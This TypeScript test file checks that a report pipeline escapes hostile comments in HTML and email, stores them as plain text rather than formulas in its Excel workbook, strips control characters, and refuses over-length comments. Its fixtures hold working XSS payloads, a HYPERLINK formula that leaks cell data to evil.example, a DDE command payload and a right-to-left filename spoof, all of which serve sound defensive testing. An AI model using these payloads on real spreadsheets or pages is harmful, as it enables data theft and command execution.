/**
 * Hostile comments through the whole run: comments/<YYYY-MM>.json with HTML and script,
 * formula prefixes, a right-to-left override and other control characters, and the
 * longest comment allowed. They must come out escaped in HTML (page and email), as text
 * (never formulas) in the workbook, with text-direction and control characters removed
 * and noted; a comment over 5,000 characters refuses the file, naming its key.
 */
import JSZip from 'jszip';
import * as XLSX from 'xlsx';
import type { Pack } from '../../functions/core/pack/pack-types';
import { OFFICER, PERIOD, startFaultWorld, type FaultWorld } from './harness';

const SCRIPT = '<script>alert("pwned")</script><img src=x onerror=alert(1)>';
const FORMULAS: Record<string, string> = {
  OP388a: '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
  OP389a: "+1+cmd|' /C calc'!A0",
  Op421: '-2+3',
  Op422: '@SUM(1,2)',
};
const REVERSED = 'Figures checked by \u202Egnp.exe\u202C the team.\u0007\u0000 Done\u2066.\u2069';
const REVERSED_CLEAN = 'Figures checked by gnp.exe the team. Done.';
const LONGEST = `${'Long comment. '.repeat(357)}ok`.slice(0, 5000);

let world: FaultWorld;
beforeAll(async () => {
  world = await startFaultWorld();
});
afterAll(async () => {
  await world?.stack.stop();
});

const previewRerun = {
  trigger: 'rerun',
  period: PERIOD,
  requestedBy: 'ann',
  reason: 'hostile comments',
  send: 'preview',
};

async function putComments(body: unknown): Promise<void> {
  await world.store.put(`comments/${PERIOD}.json`, JSON.stringify(body));
}

test('hostile comments are escaped, stored as text, neutralised and noted', async () => {
  await putComments({
    sections: {
      'child-protection': { performance: REVERSED, service: SCRIPT },
      'cp-reviews-visits': { service: LONGEST },
    },
    indicators: { HY64: SCRIPT, ...FORMULAS },
  });
  await world.stack.clearEmails();
  const result = await world.run(previewRerun);
  expect(result.error).toBeNull();
  expect(result.status).toBe('sent');

  // pack.json: the text as supplied, minus the removed characters, with a warning naming the comment.
  const pack = (await world.json<Pack>(`${result.prefix}pack.json`))!;
  const section = pack.sections.find((s) => s.id === 'child-protection')!;
  expect(section.comments.performance.text).toBe(REVERSED_CLEAN);
  expect(section.comments.service.text).toBe(SCRIPT);
  expect(pack.sections.find((s) => s.id === 'cp-reviews-visits')!.comments.service.text).toBe(LONGEST);
  const indicators = pack.sections.flatMap((s) => s.indicators);
  for (const [code, text] of Object.entries(FORMULAS))
    expect(indicators.find((i) => i.code === code)?.comment).toBe(text);
  expect(pack.dataQuality.warnings).toContainEqual(
    expect.objectContaining({
      kind: 'comment-control-characters',
      column: 'sections.child-protection.performance',
      value: 'U+202E U+202C U+0007 U+0000 U+2066 U+2069',
    }),
  );

  // pack.html and the email body: the markup arrives as text.
  const html = (await world.store.get(`${result.prefix}pack.html`))!.body.toString('utf8');
  const [email] = await world.stack.emails();
  expect(email.subject).toMatch(/^\[Preview\] /);
  for (const page of [html, email.body.html ?? '']) {
    expect(page).not.toContain('<script>alert');
    expect(page).not.toContain('<img src=x');
    expect(page).toMatch(/&lt;script&gt;alert\((&quot;|&#34;|&#x22;)pwned/);
    // eslint-disable-next-line no-control-regex -- the NUL and BEL of the hostile comment must not reach the page
    expect(page).not.toMatch(/[\u202A-\u202E\u2066-\u2069\u0000\u0007]/);
  }
  expect(email.body.text ?? '').toContain(SCRIPT); // plain text is shown as text

  // pack.xlsx: every hostile comment is a string cell with no formula; no cell anywhere holds a formula.
  const workbookBytes = (await world.store.get(`${result.prefix}pack.xlsx`))!.body;
  const book = XLSX.read(workbookBytes, { type: 'buffer', cellFormula: true });
  const cells = book.SheetNames.flatMap((name) =>
    Object.entries(book.Sheets[name])
      .filter(([ref]) => !ref.startsWith('!'))
      .map(([, cell]) => cell as XLSX.CellObject),
  );
  for (const text of [...Object.values(FORMULAS), SCRIPT, REVERSED_CLEAN, LONGEST]) {
    const holding = cells.filter((cell) => cell.v === text);
    expect(holding.length).toBeGreaterThan(0);
    for (const cell of holding) expect([cell.t, cell.f]).toEqual(['s', undefined]);
  }
  const zip = await JSZip.loadAsync(workbookBytes);
  for (const name of Object.keys(zip.files).filter((n) => /^xl\/worksheets\/sheet\d+\.xml$/.test(n))) {
    const xml = await zip.file(name)!.async('string');
    expect(xml).not.toMatch(/<f[ >]/);
  }
});

test(
  'a comment over 5,000 characters refuses the comments ' + 'file, naming the key; nothing goes to the list',
  async () => {
    await putComments({ indicators: { HY64: 'x'.repeat(5001) } });
    await world.stack.clearEmails();
    const result = await world.run(previewRerun);
    expect(result.status).toBe('failed');
    expect(result.error?.message).toContain(`comments/${PERIOD}.json`);
    expect(result.error?.message).toMatch(/indicators\.HY64: is longer than the 5,000-character limit for a comment/);
    expect(result.manifest.error).toMatchObject({ stage: 'comments' });
    const emails = await world.stack.emails();
    expect(emails.map((e) => e.subject.slice(0, 8))).toEqual(['[Failed]']);
    expect(emails[0].destination.to).toEqual([OFFICER]);
  },
);

test('comments that are not text, or an unknown field, are refused with the path', async () => {
  await putComments({ indicators: { HY64: { toString: 'x' } }, extra: true });
  const result = await world.run(previewRerun);
  expect(result.status).toBe('failed');
  expect(result.error?.message).toMatch(/indicators\.HY64: /);
  expect(result.error?.message).toMatch(/Unrecognized key.*extra/);
});
